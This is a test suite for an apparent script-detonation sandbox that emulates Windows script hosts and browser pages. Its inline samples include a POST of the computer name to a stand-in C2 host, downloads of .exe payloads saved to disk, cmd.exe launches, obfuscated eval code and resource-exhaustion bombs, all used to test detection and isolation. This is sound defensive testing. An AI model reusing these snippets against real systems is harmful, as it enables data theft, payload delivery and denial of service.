import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { DEFAULT_ENGINE_LIMITS, type DynamicReport, type EngineLimits } from '../../lib/engines/engine.ts';
import { detonateFile } from '../../lib/engines/script/detonate-file.ts';
import { createEnginePool } from '../../lib/engines/threads/pool.ts';
import { REACH } from '../hostile/scripts/reach.ts';
import { BOMBS, HOSTILE_SCRIPTS } from '../hostile/scripts/techniques.ts';

const run = (name: string, content: string | Uint8Array, limits = DEFAULT_ENGINE_LIMITS) =>
  detonateFile({ bytes: Buffer.from(content), untrustedName: name, password: null }, limits);

/** The deadline of the thread for what only time ends. A run gets a share of it. */
const SHORT: EngineLimits = { ...DEFAULT_ENGINE_LIMITS, timeoutMs: 2_000 };

async function ran(name: string, content: string | Uint8Array, limits?: EngineLimits): Promise<DynamicReport> {
  const report = await run(name, content, limits);
  if (report.outcome === 'failed') throw new Error(`${report.failure.code}: ${report.failure.message}`);
  return report;
}

async function failure(name: string, content: string): Promise<string> {
  const report = await run(name, content);
  return report.outcome === 'failed' ? `${report.failure.code}: ${report.failure.message}` : report.level;
}

const ids = ({ findings }: DynamicReport) => findings.map(({ id }) => id);
const texts = (report: DynamicReport, kind: string) =>
  report.files.filter((file) => file.kind === kind).map(({ bytes }) => Buffer.from(bytes).toString('latin1'));

test.each(HOSTILE_SCRIPTS.map((script) => [script.technique, script] as const))('finds: %s', async (_, script) => {
  const report = await ran(script.name, script.content);
  expect(ids(report)).toEqual(expect.arrayContaining([...script.finds]));
  expect(report.level).toBe(script.level);
  expect(report.findings.every(({ evidence }) => evidence !== undefined && evidence !== '')).toBe(true);
});

/** Bombs that meet no other limit before. */
const ENDED_BY_TIME = ['giant array', 'endless loop that catches everything', 'promises without end'];

describe('a script that tries to break the sandbox', () => {
  test.each(BOMBS)('%s ends in a report that names the limit, and is not benign', async (name, content, limit) => {
    const report = await ran('bomb.js', content, ENDED_BY_TIME.includes(name) ? SHORT : DEFAULT_ENGINE_LIMITS);
    const limits = report.findings.filter(({ id }) => id === 'behaviour-limit-reached').map(({ where }) => where);
    expect(limits.join()).toMatch(limit);
    expect(report.level).not.toBe('benign');
  });

  const START = `new ActiveXObject('WScript.Shell').Run('calc.exe');`;
  test.each([
    [
      'slow replacements',
      `var s = new Array(16e5).join('abcdefgh'); for (;;) x = s.replace(/a/g, 'b');`,
      /time|memory/,
    ],
    [
      'slow searches',
      `var p = Array(3e4).join('a'), q = Array(15e3).join('a') + 'b'; for (;;) try { p.indexOf(q) } catch (e) {}`,
      /time/,
    ],
    ['slow strings', `var s = new Array(2e6).join('abcd'); for (;;) x = (s + Math.random()).charAt(5);`, /time/],
    ['a pattern that goes back', `/(a+)+$/.test(new Array(60).join('a') + 'b')`, /steps|time/],
    ['a loop inside a built-in', '[].reduceRight.call({ length: 9007199254740991 }, function () {}, 0);', /time/],
    [
      'memory that runs out and a script that hides it',
      `var a = []; try { for (;;) a.push(new Uint8Array(8e6)) } catch (e) { a = 0 } WScript.Echo('on')`,
      /memory/,
    ],
  ] as const)('%s: what was done before is kept, and the limit is named', async (_, content, limit) => {
    // The memory must run out before the time.
    const report = await ran('slow.js', START + content, limit.test('time') ? SHORT : DEFAULT_ENGINE_LIMITS);
    expect(ids(report)).toContain('behaviour-starts-program');
    expect(
      report.findings
        .filter(({ id }) => id === 'behaviour-limit-reached')
        .map(({ where }) => where)
        .join(),
    ).toMatch(limit);
  });

  test('timers that make timers end at a limit', async () => {
    const report = await ran('bomb.html', '<script>function t() { setTimeout(t, 9); setTimeout(t, 9) } t()</script>');
    expect(report.findings.map(({ where }) => where)).toContain('more than 3000 timers');
  });

  test.each([
    ['host', 'js', 'WScript.Echo(WScript.ScriptName); leftover = 1;'],
    ['page', 'html', '<script>location.href = "https://x.example/" + document.title; leftover = 1;</script>'],
    ['drawing', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>var leftover = 1; fetch("/a");</script></svg>'],
  ])(
    'a %s behaves in a copied memory as in a new one, and knows its own name and text',
    async (_, extension, content) => {
      // The first run of a thread makes the objects. Every later one begins with a copy of the memory that holds them.
      const first = await ran(`first.${extension}`, content);
      const second = await ran(`second.${extension}`, content);
      const named = (report: typeof first, name: string) => JSON.stringify(report).replaceAll(name, 'name');
      expect(named(second, 'second')).toBe(named(first, 'first'));
    },
  );

  test('the next file finds nothing of the last one', async () => {
    await ran('a.js', 'Array.prototype.push = null; String = null; JSON = null; host = 1; var leftover = 1;');
    expect(
      (await ran('b.js', 'if (typeof leftover !== "undefined") WScript.CreateObject("WScript.Shell").Run("x.exe");'))
        .level,
    ).toBe('unknown');
  });
});

test.each([
  ['an address built of parts', `var u = new URL('https://a.example/'); u.hostname = 'real.example'; fetch(u)`],
  ['an address set anew', `var u = new URL('https://a.example/'); u.href = 'https://real.example/'; fetch(u)`],
  [
    'a text that is another one the second time',
    `var i = 0, o = { toString() { return ['https://a.example/', 'https://real.example/'][i++] } }; navigator.sendBeacon(o); navigator.sendBeacon(o)`,
  ],
  [
    'a derived object',
    `class R extends XMLHttpRequest { go(u) { this.open('GET', u); this.send() } } new R().go('https://real.example/')`,
  ],
  [
    'a member in the place of one of the page',
    `document.querySelector = null; Array.prototype.push = null; document.body.innerHTML = '<img src="https://real.example/">'`,
  ],
  [
    'what is thrown by what it is asked for',
    `try { navigator.sendBeacon('https://real.example/', { toString() { throw 1 } }) } catch (e) {}`,
  ],
])('%s is recorded as it is', async (_, code) => {
  const report = await ran('a.html', `<script>${code}</script>`);
  expect(report.requests.map(({ url }) => url)).toContain('https://real.example/');
});

test('a page reaches only objects of its own realm', async () => {
  const report = await ran('reach.html', `<p id="q"></p><form><input name="i"></form><script>${REACH}</script>`);
  expect(report.requests.map(({ url }) => url).filter((url) => url.includes('//foreign.example/'))).toEqual([]);
  const [, count] = /\/\/end\.example\/(\d+)/.exec(report.requests.map(({ url }) => url).join()) ?? [];
  expect(Number(count)).toBeGreaterThan(2_000);
});

describe('what is not malicious', () => {
  test.each([
    ['menu.html', '<ul id="m"></ul><script>document.getElementById("m").className = "open";</script>'],
    ['clock.html', '<p id="t"></p><script>setInterval(function () { t1 = new Date().getHours(); }, 1000);</script>'],
    ['link.html', '<a href="https://www.example.org/" onclick="seen = 1">News</a>'],
    ['chart.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>var w = Math.max(1, 2);</script></svg>'],
    ['sum.js', 'var a = [3, 1, 2].sort(); var s = 0; for (var i = 0; i < a.length; i++) s += a[i];'],
  ])('%s ran to its end and is benign', async (name, content) => {
    const report = await ran(name, content);
    expect([report.level, ids(report)]).toEqual(['benign', []]);
  });

  test.each([
    ['echo.js', 'WScript.Echo("Done");'],
    ['tidy.js', 'new ActiveXObject("Scripting.FileSystemObject").CreateFolder("C:\\\\Reports\\\\2026");'],
    ['set.js', 'new ActiveXObject("WScript.Shell").Environment("USER")("REPORTS") = "C:\\\\Reports";'],
    ['delete.js', 'new ActiveXObject("Scripting.FileSystemObject").DeleteFile("C:\\\\Reports\\\\old.txt");'],
    ['anchor.hta', '<hta:application/><script>location.href = "#top";</script>'],
    ['empty.hta', '<hta:application/><script>var a = 1;</script>'],
  ])('%s is for Windows and shows no harm, as one does that knows where it is: unknown', async (name, content) => {
    const report = await ran(name, content);
    expect([report.level, ids(report)]).toEqual(['unknown', ['behaviour-no-effect']]);
  });

  test('a script that ends with an error is unknown, and says so', async () => {
    const report = await ran('module.js', 'var a = require("fs"); module.exports = a;');
    expect([report.level, ids(report)]).toEqual(['unknown', ['behaviour-incomplete']]);
    expect(report.findings[0]?.where).toContain('require');
  });

  test('an object that is not emulated makes the run incomplete', async () => {
    const report = await ran('excel.js', 'var x = new ActiveXObject("Excel.Application"); x.Workbooks.Add();');
    expect(report.findings[0]?.where).toContain('not emulated: Excel.Application.Workbooks');
    expect(report.level).toBe('unknown');
  });
});

describe('a file that nothing here can run', () => {
  test.each([
    ['a.vbs', 'MsgBox 1', 'no_environment: no environment here runs VBScript; JavaScript alone is run'],
    ['a.ps1', 'Write-Host 1', 'no_environment: no environment here runs PowerShell; JavaScript alone is run'],
    ['a.bat', '@echo off', 'no_environment: no environment here runs batch files; JavaScript alone is run'],
    ['a.html', '<p>text</p>', 'no_environment: there is nothing to run in this file: it holds no script'],
    [
      'a.txt',
      'text',
      'no_environment: no environment here runs a file of this type (plain text); JavaScript alone is run',
    ],
    [
      'a.wsf',
      '<job><script language="VBScript">MsgBox 1</script></job>',
      'no_environment: there is nothing to run in this file: its scripts are VBScript; JavaScript alone is run',
    ],
  ])('%s ends with the reason', async (name, content, reason) => {
    expect(await failure(name, content)).toBe(reason);
  });
});

test('a report comes whole out of a worker thread', async () => {
  const pool = createEnginePool({ threads: 1 });
  const input = { bytes: Buffer.from(HOSTILE_SCRIPTS[1]?.content ?? ''), untrustedName: 'order.js', password: null };
  const report = await pool.run({ engine: 'sandbox', input });
  await pool.close();
  expect(report).toMatchObject({ outcome: 'completed', level: 'malicious', environment: 'script_emulation' });
  expect('files' in report ? Buffer.from(report.files[0]?.bytes ?? []).toString() : '').toContain('WScript.Echo 1');
});

describe('what is recorded', () => {
  test('the tree of processes, requests with host and port, and plausible answers', async () => {
    const report = await ran(
      'x.js',
      `var h = new ActiveXObject('WinHttp.WinHttpRequest.5.1'); h.Open('POST', 'http://c2.example:8080/g?q=1', false);
       h.Send(new ActiveXObject('WScript.Network').ComputerName); new ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c dir', '', 'open', 0);`,
    );
    expect(report.requests).toMatchObject([
      { method: 'POST', url: 'http://c2.example:8080/g?q=1', host: 'c2.example', port: 8080 },
    ]);
    expect(report.processes).toMatchObject([
      { ppid: 0, name: 'wscript.exe' },
      { ppid: report.processes[0]?.pid, name: 'cmd.exe', commandLine: 'cmd.exe /c dir' },
    ]);
    expect(report.events.find(({ target }) => target === 'computer name')?.detail).toBe('FIN-WS-0417');
  });

  test.each([
    ['when the server has nothing', 'if (h.status == 200) break;'],
    ['when there is no server', 'break;'],
  ])('the second address of a script, and what it does without any, %s', async (_, stop) => {
    const report = await ran(
      'x.js',
      `var urls = ['http://one.example/a.exe', 'http://two.example/b.exe'];
       for (var i = 0; i < 2; i++) try { var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', urls[i], false); h.send(); ${stop} } catch (e) {}
       if (i === 2) new ActiveXObject('WScript.Shell').Run('cmd.exe /c last');`,
    );
    expect(report.requests.map(({ url }) => url)).toEqual(['http://one.example/a.exe', 'http://two.example/b.exe']);
    expect(report.processes.map(({ commandLine }) => commandLine)).toContain('cmd.exe /c last');
    expect(new Set(report.events.map(({ id }) => id)).size).toBe(report.events.length);
    expect(report.events.filter(({ operation }) => operation === 'run-again')).toHaveLength(1);
  });

  test('a script that makes no request is run once', async () => {
    const report = await ran('x.js', `WScript.Echo('once');`);
    expect(report.events.map(({ operation }) => operation)).toEqual(['message']);
  });

  test('files byte for byte, with their hashes, without the answers of the emulation', async () => {
    const report = await ran(
      'x.js',
      `var s = new ActiveXObject('ADODB.Stream'); s.Type = 2; s.Charset = 'iso-8859-1'; s.Open(); s.WriteText('a\\x00b\\xff'); s.SaveToFile('C:\\\\Users\\\\Public\\\\a.bin');
       var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://x.example/b.exe', false); h.send();
       var t = new ActiveXObject('ADODB.Stream'); t.Type = 1; t.Open(); t.Write(h.responseBody); t.SaveToFile('b.bin');`,
    );
    expect(texts(report, 'dropped_file')).toEqual(['a\x00b\xff']);
    expect(report.files[0]).toMatchObject({
      untrustedName: 'C:\\Users\\Public\\a.bin',
      hashes: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(report.events.filter(({ operation }) => operation === 'file-write')).toHaveLength(2);
  });

  test('every layer of code', async () => {
    const report = await ran('x.js', `eval(unescape('%65val(%27var%20a%3D%27+%2742%27)'));`);
    expect(texts(report, 'deobfuscated_code')).toEqual(["eval('var a='+'42')", 'var a=42']);
  });

  test('the clock moves when the script waits, and the wait costs no time', async () => {
    const before = Date.now();
    const report = await ran('x.js', 'WScript.Sleep(86400000); WScript.Echo(new Date().getDate());');
    const days = [0, 3_600_000].map((more) => String(new Date(before + more + 86_400_000).getDate()));
    expect(days).toContain(report.events.find(({ type }) => type === 'message')?.detail);
    expect(ids(report)).toEqual(['behaviour-long-delay']);
  });
});

test('no bytes crash or hang it', async () => {
  const pieces = fc.constantFrom(
    '<script>',
    '</script>',
    'eval(',
    'new ActiveXObject("',
    '@if(',
    '@end',
    '/*@cc_on',
    '#@~^',
    '(',
    ')',
    '`',
    '"',
    "'",
    '/',
    '\\',
    '\0',
    '%PDF-1.7\n1 0 obj <</JS (',
    'endobj',
    '\ud800',
  );
  const names = fc.constantFrom('a.js', 'a.jse', 'a.wsf', 'a.hta', 'a.html', 'a.svg', 'a.pdf', '');
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 300 }),
    fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 30 }).map((all) => Buffer.from(all.join(''))),
  );
  await fc.assert(
    fc.asyncProperty(names, bytes, async (name, content) => {
      expect(['completed', 'failed']).toContain((await run(name, content)).outcome);
    }),
    { numRuns: 120 },
  );
});
